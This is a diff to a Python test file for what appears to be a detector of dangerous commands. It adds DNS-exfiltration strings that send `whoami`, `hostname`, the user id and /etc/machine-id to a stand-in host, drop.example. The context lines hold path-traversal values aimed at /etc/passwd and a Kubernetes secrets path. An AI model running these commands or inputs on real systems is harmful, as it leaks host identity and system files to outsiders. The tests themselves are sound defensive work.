@@ -122,6 +122,12 @@ def test_data_destroyed_and_other_stores_are_found(text: str, kind: str) -> None
         {"page": "../../../../etc/passwd\x00.png"},
         {"file": "....//....//....//etc/passwd"},
         {"key": "/registry/secrets/kube-system/admin"},
+        "host `whoami`.drop.example",
+        "true && host -t A `id -un`.drop.example",
+        "sh -c 'ping -c1 `hostname`.drop.example'",
+        "sudo host `cat /etc/machine-id`.drop.example",
+        "for x in 1; do host `id -u`.drop.example; done",
+        "see host $(whoami).drop.example",
     ],
 )
 def test_other_ways_to_the_same_are_found(text: JsonValue) -> None:
@@ -149,6 +155,10 @@ def test_other_ways_to_the_same_are_found(text: JsonValue) -> None:
         "terraform plan -destroy",
         "GET http://169.254.1.7/ on the printer",
         "0xa9 is a byte",
+        "Adds the host keys of the nodes to `known_hosts`, so that nobody turns the check off",
+        'sum by (host) (count_over_time({unit="sshd"} |= `Failed password` [5m]))',
+        "Run it on each host with `make deploy`, then look at `status`",
+        "ping the team in `#ops` when `host` is down",
     ],
 )
 def test_ordinary_lines_beside_them_pass(text: str) -> None:
